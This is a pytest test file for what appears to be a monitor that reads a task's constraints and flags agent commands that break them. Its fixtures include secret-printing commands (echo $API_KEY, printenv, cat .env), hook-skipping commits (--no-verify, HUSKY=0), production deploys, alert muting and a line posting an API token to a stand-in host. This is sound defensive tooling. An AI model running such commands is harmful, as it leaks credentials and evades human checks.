"""What a task forbids in its own words, and which calls break it."""

from __future__ import annotations

import pytest

from interlock.detect.breaches import (
    broken,
    exceeded,
    leaking_code,
    only_comments,
    printed_secret,
    shown_secret,
    unasked,
)
from interlock.detect.constraints import Constraint, read_constraints
from interlock.review import Write

PHRASE = "as the task says"


@pytest.mark.parametrize(
    ("task", "constraints"),
    [
        ("Fix the bug.", []),
        ("Only modify files in src/api/ and lib/util.py.", [("only", ("src/api/", "lib/util.py"), 0)]),
        ("Only modify the handlers under /srv/app/ or tests/unit/.", [("only", ("/srv/app/", "tests/unit/"), 0)]),
        ("Only change it.", []),
        ("Modify only files under src/core/.", [("only", ("src/core/",), 0)]),
        ("Edit only code in ./pkg/a.", [("only", ("./pkg/a",), 0)]),
        ("- Stay within the repository.", [("files", ("elsewhere",), 0)]),
        (
            "Keep all your changes within this project. Only modify files in src/app/.",
            [("files", ("elsewhere",), 0), ("only", ("src/app/",), 0)],
        ),
        ("Within the project there is a bug.", []),
        ("Run at most 5 iterations.", [("count", ("iteration",), 5)]),
        ("Use a maximum of 1,000 rows.", [("count", ("row",), 1000)]),
        ("Do not run the load test for more than 30 seconds.", [("seconds", (), 30)]),
        ("Run the benchmark for up to 2 minutes.", [("seconds", (), 120)]),
        ("Training must not exceed 3 hours.", [("seconds", (), 10800)]),
        ("The token is valid for up to 30 minutes.", []),
        ("Keep logs for up to 30 days.", []),
        ("No line longer than 80 characters.", []),
        ("Limit the number of workers to 4", [("count", (), 4)]),
        ("Use up to 4", [("count", (), 4)]),
        ("At most five retries.", []),
        ("Fix it in source code only.", [("files", ("tests",), 0)]),
        ("The source of the problem is unknown.", []),
        ("Deploy to staging only.", [("production", (), 0)]),
        ("Use only the staging cluster.", [("production", (), 0)]),
        ("Do not modify the tests.", [("files", ("tests",), 0)]),
        ("Don't change test data.", [("act", ("chan", "test", "data", ""), 0)]),
        ("Do not modify shared ETL configuration.", [("files", ("config", "etl"), 0)]),
        ("Do not modify shared configuration.", [("act", ("chan", "shared", "configuration", ""), 0)]),
        ("Do not modify db configuration.", []),
        ("Do not modify schemas.", [("act", ("chan", "schema", "", ""), 0)]),
        ("Only modify the parser w/ care in src/api/.", [("only", ("src/api/",), 0)]),
        ("Do not modify node_modules directly.", [("not", ("node_modules",), 0)]),
        ("Never delete service accounts without approval.", [("act", ("dele", "service", "account", "without"), 0)]),
        ("Do not disable caching globally in the whole cluster.", []),
        ("Do not change files in other modules.", [("rest", (), 0)]),
        ("Do not touch other modules.", [("rest", (), 0)]),
        ("Do not modify tests outside the web service.", []),
        ("Do not edit production config.", [("files", ("production_config",), 0)]),
        ("Do not modify configuration files.", [("files", ("config",), 0)]),
        ("You must not touch any migrations.", [("files", ("migrations",), 0)]),
        ("Never alter CI configuration.", [("files", ("ci",), 0)]),
        ("Don't modify system files.", [("files", ("system",), 0)]),
        ("Do not modify config/settings.py or lib/db.py, please.", [("not", ("config/settings.py", "lib/db.py"), 0)]),
        ("Do not modify files outside src/.", [("rest", (), 0)]),
        ("Do not change anything outside of the folder src/app/.", [("rest", (), 0)]),
        ("You should not modify db/schema.sql.", [("not", ("db/schema.sql",), 0)]),
        ("Fix it without editing setup.cfg.", [("not", ("setup.cfg",), 0)]),
        ("Avoid touching the tests.", [("files", ("tests",), 0)]),
        ("Do not print the API_KEY or any secrets.", [("read", ("API_KEY",), 0), ("secret", (), 0)]),
        ("Do not log passwords.", [("secret", (), 0)]),
        ("Never cat .env or config/secrets.yml.", [("read", (".env", "config/secrets.yml"), 0), ("secret", (), 0)]),
        ("Do not use verbose output.", []),
        ("Do not use --force or `rm -rf`.", [("word", ("--force", "rm -rf"), 0)]),
        ("Do not run sudo.", [("word", ("sudo",), 0)]),
        ("Do not use 'git push' here.", [("word", ("git push",), 0)]),
        ("Never pass --no-verify, --no-verify.", [("word", ("--no-verify",), 0)]),
        ("Do not add [skip ci] to messages.", [("word", ("[skip ci]",), 0)]),
        ("Do not touch production.", [("production", (), 0)]),
        ("Do not deploy to prod/eu.", []),
        ("Never delete the production database.", [("production", (), 0)]),
        ("If the tests fail, do not modify them. If asked, do not modify tests.", []),
        ("if you can, do not modify the tests", []),
        ("We never modify the tests in CI", []),
        ("Please do not modify the tests", [("files", ("tests",), 0)]),
        ("* Do not modify   the  tests\n* Do not modify   the  tests", [("files", ("tests",), 0)]),
        (
            "Only modify files in a/b. Do not use --yes. At most 3 runs.",
            [("only", ("a/b",), 0), ("word", ("--yes",), 0), ("count", ("run",), 3)],
        ),
        ("Do not modify x.py; do not modify y.py", [("not", ("x.py", "y.py"), 0)]),
        ("Do not modify ab", []),
        ("Do not print maxTokens.", [("read", ("maxTokens",), 0)]),
    ],
)
def test_what_a_task_forbids(task, constraints):
    assert [(one.kind, one.names, one.most) for one in read_constraints(task)] == constraints


def test_a_constraint_is_told_with_its_sentence_and_a_text_without_sentences_has_none():
    task = "\n -  Fix it.\n - Do not   modify the tests!\n"
    assert read_constraints(task) == (Constraint("files", "Do not modify the tests!", ("tests",)),)
    (long,) = read_constraints("do not modify the tests " + "x" * 200)
    assert long.phrase == "do not modify the tests " + "x" * 136
    assert read_constraints("do not modify the tests " + "x" * 577) == ()
    assert read_constraints("x " * 3000 + "\ndo not modify the tests") == ()
    assert read_constraints("Fix the bug.") == ()
    assert len(read_constraints("\n".join(f"Do not modify file{number}.py" for number in range(30)))) == 24


@pytest.mark.parametrize(
    ("constraint", "command", "written", "breach"),
    [
        (Constraint("only", PHRASE, ("src/api/",)), "", ("src/api/a.py", "lib/b.py"), "lib/b.py"),
        (
            Constraint("only", PHRASE, ("src/api/",)),
            "",
            ("src/api/a.py", "./src/api/b.py", "x/src/api/c.py", "src/api"),
            "",
        ),
        (
            Constraint("only", PHRASE, ("src/api/",)),
            "",
            ("notes", "Makefile", "$HOME/x.py", "-o", "/tmp/x.py", "/dev/null"),
            "",
        ),
        (Constraint("only", PHRASE, ("src/api/",)), "", (".env",), ".env"),
        (Constraint("only", PHRASE, ("src/api/",)), "", ("src/apis/x.py",), "src/apis/x.py"),
        (Constraint("only", PHRASE, ("/srv/app",)), "", ("lib/b.py", "/srv/app/x"), ""),
        (Constraint("only", PHRASE, ("/srv/app",)), "", ("../b.py",), "../b.py"),
        (Constraint("only", PHRASE, ("/srv/app",)), "", ("/etc/b",), "/etc/b"),
        (Constraint("only", PHRASE, ("src/",)), "sed -i s/a/b/ lib/b.py", ("lib/b.py",), ""),
        (Constraint("only", PHRASE, ("src/",)), "cp a /etc/b", ("lib/b.py", "/etc/b.conf"), "/etc/b.conf"),
        (Constraint("only", PHRASE, ("src/",)), "cp a ~/b.py", ("~/b.py",), "~/b.py"),
        (Constraint("only", PHRASE, ("src/",)), "cp a ../b.py", ("../b.py",), "../b.py"),
        (Constraint("not", PHRASE, ("db/*", "a.py")), "", ("x.py", "db/schema.sql"), "db/schema.sql"),
        (Constraint("not", PHRASE, ("db/",)), "", ("mydb/x", "x/db"), "x/db"),
        (Constraint("not", PHRASE, ("db/",)), "", ("mydb/x",), ""),
        (Constraint("files", PHRASE, ("tests",)), "", ("src/a.py", "tests/a.py"), "tests/a.py"),
        (Constraint("files", PHRASE, ("tests",)), "", ("src/a.py", "attest/a.py"), ""),
        (Constraint("files", PHRASE, ("config", "etl")), "", ("etl/config/join.yaml",), "etl/config/join.yaml"),
        (Constraint("files", PHRASE, ("config", "etl")), "", ("web/config/a.yaml", "etl/join.py"), ""),
        (Constraint("files", PHRASE, ("migrations",)), "", ("app/migrations/1.py",), "app/migrations/1.py"),
        (Constraint("files", PHRASE, ("elsewhere",)), "", ("src/a", "/etc/hosts"), "/etc/hosts"),
        (Constraint("word", PHRASE, ("--force", "rm -rf")), "git push --force", (), "--force"),
        (Constraint("word", PHRASE, ("--force",)), "git push --force-with-lease", (), ""),
        (Constraint("word", PHRASE, ("--force",)), "", (), ""),
        (Constraint("read", PHRASE, (".env", "API_KEY")), "cat .env", (), ".env"),
        (Constraint("read", PHRASE, ("API_KEY",)), "export API_KEY=1", (), ""),
        (Constraint("read", PHRASE, ("API_KEY",)), "echo $API_KEY", (), "API_KEY"),
        (Constraint("secret", PHRASE, ()), "echo $API_KEY", (), "echo $API_KEY"),
        (Constraint("secret", PHRASE, ()), "ls", (), ""),
        (Constraint("production", PHRASE, ()), "deploy --env production", (), "--env production"),
        (Constraint("production", PHRASE, ()), "kubectl get pods --env production", (), ""),
        (Constraint("production", PHRASE, ()), "deploy --env staging", (), ""),
        (Constraint("production", PHRASE, ()), "psql $PROD_URL", (), "$PROD_URL"),
        (Constraint("seconds", PHRASE, (), 30), "sleep 31", (), "sleep 31"),
        (Constraint("seconds", PHRASE, (), 30), "sleep 30", (), ""),
        (Constraint("seconds", PHRASE, (), 30), "sleep 1m", (), "sleep 1m"),
        (Constraint("seconds", PHRASE, (), 30), "sleep 10; timeout 2h x", (), "timeout 2h"),
        (Constraint("seconds", PHRASE, (), 30), "bench --duration 31000ms", (), "--duration 31000ms"),
        (Constraint("seconds", PHRASE, (), 30), "bench --duration=30000ms", (), ""),
        (Constraint("seconds", PHRASE, (), 3600), "timeout 60min x", (), ""),
        (Constraint("seconds", PHRASE, (), 3600), "timeout 61MIN x", (), "timeout 61MIN"),
        (Constraint("count", PHRASE, ("iteration",), 5), "for i in {1..6}; do x; done", (), "6 times"),
        (Constraint("count", PHRASE, ("iteration",), 5), "for i in {1..5}; do x; done", (), ""),
        (Constraint("count", PHRASE, ("iteration",), 5), "for i in $(seq 1 6); do x; done", (), "6 times"),
        (Constraint("count", PHRASE, ("iteration",), 5), "python -c 'for i in range(7): x'", (), "7 times"),
        (Constraint("count", PHRASE, ("iteration",), 5), "x --iterations 6", (), "--iterations 6"),
        (Constraint("count", PHRASE, ("widget",), 5), "x --widgets=6", (), "--widgets=6"),
        (Constraint("count", PHRASE, ("gadget",), 5), "x --widgets=6", (), ""),
        (Constraint("count", PHRASE, ("gadget",), 5), "x -n 6", (), "-n 6"),
        (Constraint("count", PHRASE, ("gadget",), 5000), "x -n 10,000", (), "-n 10,000"),
        (Constraint("count", PHRASE, ("gadget",), 5), "x -c 5", (), ""),
        (
            Constraint("count", PHRASE, ("widget",), 10),
            "for i in {1..4}; do x --widgets 3; done",
            (),
            "--widgets 3, 4 times",
        ),
        (Constraint("count", PHRASE, ("gadget",), 10), "for i in {1..4}; do x --widgets 3; done", (), ""),
        (Constraint("count", PHRASE, ("widget",), 12), "for i in {1..4}; do x --widgets 3; done", (), ""),
    ],
)
def test_what_in_a_call_breaks_a_constraint(constraint, command, written, breach):
    assert broken(constraint, command, written) == breach


@pytest.mark.parametrize(
    ("command", "printed"),
    [
        ("ls", ""),
        ("echo $API_KEY", "echo $API_KEY"),
        ("echo hi; echo ${DB_PASSWORD}", "echo ${DB_PASSWORD}"),
        ("echo $API_KEY | sha1sum", ""),
        ("echo $API_KEY > f", ""),
        ("echo $HOME", ""),
        ("printf '%s' $SECRET_TOKEN", "printf '%s' $SECRET_TOKEN"),
        ("printenv", "printenv"),
        ("printenv API_KEY", "printenv API_KEY"),
        ("printenv PATH", ""),
        ("printenv PATH API_KEY", "printenv PATH API_KEY"),
        ("printenv -0", "printenv -0"),
        ("printenv -0 PATH", ""),
        ("env", "env"),
        ("env | sort", ""),
        ("env FOO=1 x", ""),
        ("echo $(printenv API_KEY)", "echo $(printenv API_KEY)"),
        ("echo ${API_KEY:+set}", ""),
        ("cd x && env", "env"),
        ("", ""),
        ("; echo $API_KEY", "echo $API_KEY"),
        ("cat $API_KEY", ""),
        ("export X=$API_KEY", ""),
    ],
)
def test_which_commands_print_a_secret(command, printed):
    assert printed_secret(command) == printed


@pytest.mark.parametrize(
    ("output", "name"),
    [
        ("Authorization: Bearer REAL_JWT_9921_ABC", "Authorization"),
        ("GET /users\\nauthorization: 'Basic dXNlcjpwYXNz1'", "Authorization"),
        ('{"headers": {"x-api-key": "REAL_PROVIDER_99_ABC123"}}', "x-api-key"),
        ("DB_PASSWORD=prod-4711-secret", "DB_PASSWORD"),
        ("DB_PASSWORD=short1", ""),
        ("API_KEY=TEST_KEY_1234567", ""),
        ("API_KEY=your-key-goes-here-1", ""),
        ("API_KEY=xxxxxxxxxxxx1234", ""),
        ("API_KEY=PROVIDER_API_KEY", ""),
        ("commit=0123456789abcdef", ""),
        ("the token is valid", ""),
        ("nothing here", ""),
        ("passwd=4711-hunter-two", "passwd"),
        ("mysql_pwd: 4711-hunter-two", "mysql_pwd"),
        ("passphrase: correct-horse-4711", "passphrase"),
        ("AWS_CREDENTIALS=4711-hunter-two", "AWS_CREDENTIALS"),
        ('{"ApiKey": "9f8e7d6c5b4a"}', "ApiKey"),
        ("//registry.example/:_auth=dXNlcjpwYXNz1", "_auth"),
        ("GITHUB_PAT=9f8e7d6c5b4a", "GITHUB_PAT"),
    ],
)
def test_a_secret_that_an_output_shows_by_its_name(output, name):
    assert shown_secret(output) == name


SKIPS = "skips the checks that guard each commit"
DEPLOYS = "deploys to production, which the task does not mention"
SILENCES = "switches off an alert that others rely on"
SETTINGS = "changes settings outside the project"
EDITOR = "~/.config/editor/a.json"


@pytest.mark.parametrize(
    ("task", "command", "written", "what"),
    [
        ("Fix it.", "git commit --no-verify -m x", (), (SKIPS, "git commit --no-verify")),
        ("Fix it.", "HUSKY=0 git commit -m x", (), (SKIPS, "HUSKY=0 git")),
        ("Fix it.", "HUSKY_SKIP_HOOKS=1 git push", (), (SKIPS, "HUSKY_SKIP_HOOKS=1 git")),
        ("Fix it.", "git commit -m HUSKY", (), ("", "")),
        ("Commit it with --no-verify.", "git commit --no-verify -m x", (), ("", "")),
        ("Skip the hooks, they are broken.", "HUSKY=0 git commit -m x", (), ("", "")),
        ("Fix it.", "cd x && ./deploy.sh --env production; ls", (), (DEPLOYS, "./deploy.sh --env production")),
        ("Fix it.", "./deploy.sh --env staging", (), ("", "")),
        ("Roll out the fix.", "./deploy.sh --env production", (), ("", "")),
        ("Fix it.", "./scripts/disable-alerts payments", (), (SILENCES, "./scripts/disable-alerts payments")),
        ("Fix it.", "ops mute monitor 7 ; ls", (), (SILENCES, "mute monitor 7")),
        ("Fix it.", "cat alert.log", (), ("", "")),
        ("Mute it for the maintenance.", "ops mute monitor 7", (), ("", "")),
        ("Fix it.", f"cp a {EDITOR}", ("src/b.py", EDITOR), (SETTINGS, EDITOR)),
        ("Fix the editor.", f"cp a {EDITOR}", (EDITOR,), ("", "")),
        ("Install it.", f"cp a {EDITOR}", (EDITOR,), ("", "")),
        ("Fix it.", "cp a ~/notes/a.json", ("~/notes/a.json",), ("", "")),
        ("Fix sub.", "", ("../other/sub/a.py",), ("changes a file outside the project", "../other/sub/a.py")),
        ("Fix it.", "", (".././other/a.py",), ("changes a file outside the project", ".././other/a.py")),
        ("Fix it ... soon.", "", ("../other/a.py",), ("changes a file outside the project", "../other/a.py")),
        ("Fix it, in other too.", "", ("../other/a.py",), ("", "")),
        ("Fix a.py.", "", ("../../other/a.py",), ("", "")),
        ("Fix it in ../other.", "", ("../third/a.py",), ("", "")),
        ("Fix it.", "", ("src/a.py",), ("", "")),
    ],
)
def test_what_a_call_does_that_the_task_does_not_mention(task, command, written, what):
    assert unasked(task, command, written) == what


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("requests.post('https://x.example', json={'t': os.environ['API_TOKEN']})", "API_TOKEN"),
        ("console.log(process.env.STRIPE_SECRET_KEY)", "STRIPE_SECRET_KEY"),
        ("logger.info(os.getenv('DB_PASSWORD'))", "DB_PASSWORD"),
        ("print(os.environ.get('DB_PASSWORD'))", "DB_PASSWORD"),
        ("print(os.environ['HOME'])", ""),
        ("requests.post(url, headers={'X': os.environ['API_TOKEN']})", ""),
        ("key = os.environ['API_KEY']", ""),
        ("print(key)", ""),
    ],
)
def test_code_that_gives_a_secret_away(text, name):
    assert leaking_code(text) == name


@pytest.mark.parametrize(
    ("phrase", "names", "output", "part"),
    [
        ("Limit it to 20 runs", ("run",), "21 runs", "21 runs"),
        ("Limit it to 20 runs", ("run",), "20 runs, v1.21 runs", ""),
        ("Limit it to 20 checks", ("session", "check"), "60 expiry checks done", "60 expiry checks done"),
        ("Limit it to 20 checks", ("session", "check"), "60 sessions open now", ""),
        ("Limit it to 20 checks per run", ("check",), "60 checks", ""),
        ("Limit it to 20", (), "60 checks", ""),
    ],
)
def test_an_output_that_tells_of_too_much(phrase, names, output, part):
    assert exceeded(Constraint("count", phrase, names, 20), output) == part


def test_what_is_counted_ends_where_something_else_begins():
    (clause,) = read_constraints("Do not parse more than 1000 lines for benchmarking")
    assert clause.names == ("line",)


@pytest.mark.parametrize(
    ("old", "new", "same"),
    [
        ("a = 1", "a = 1  # one", True),
        ("a = 1;", "// one\n  a = 1;", True),
        ("a = 1", "a = 2  # one", False),
        ("u = 'http://a'", "u = 'http://b'", False),
        (None, "# one", False),
    ],
)
def test_an_edit_that_changes_only_comments(old, new, same):
    assert only_comments([Write("a.py", new, old)]) is same
    assert only_comments([]) is False
